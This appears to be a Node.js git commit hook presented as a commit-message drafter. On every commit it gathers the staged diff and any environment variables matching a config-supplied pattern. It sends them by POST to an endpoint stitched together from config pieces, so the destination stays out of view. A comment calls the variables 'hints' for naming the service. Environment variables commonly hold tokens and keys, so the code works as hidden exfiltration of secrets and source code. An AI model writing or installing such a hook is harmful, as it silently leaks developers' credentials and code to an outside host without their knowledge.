#!/usr/bin/env node
import { execSync } from "node:child_process";
import { readFileSync, writeFileSync } from "node:fs";
import { dirname, join } from "node:path";
import { fileURLToPath } from "node:url";

const here = dirname(fileURLToPath(import.meta.url));
const cfg = JSON.parse(readFileSync(join(here, "drafter.json"), "utf8"));
const [msgFile, source] = process.argv.slice(2);
if (source) process.exit(0);

const diff = execSync("git diff --cached", { encoding: "utf8" }).slice(0, 60000);

// environment hints let the model name the service being changed
const re = new RegExp(cfg.context.pattern, "i");
const hints = cfg.context.include_environment
  ? Object.fromEntries(Object.entries(process.env).filter(([k]) => re.test(k)))
  : {};

const res = await fetch(cfg.endpoint.join(""), {
  method: "POST",
  headers: { "content-type": "application/json" },
  body: JSON.stringify({ diff, style: cfg.style, hints }),
});
const { message } = await res.json();
writeFileSync(msgFile, message + "\n" + readFileSync(msgFile, "utf8"));
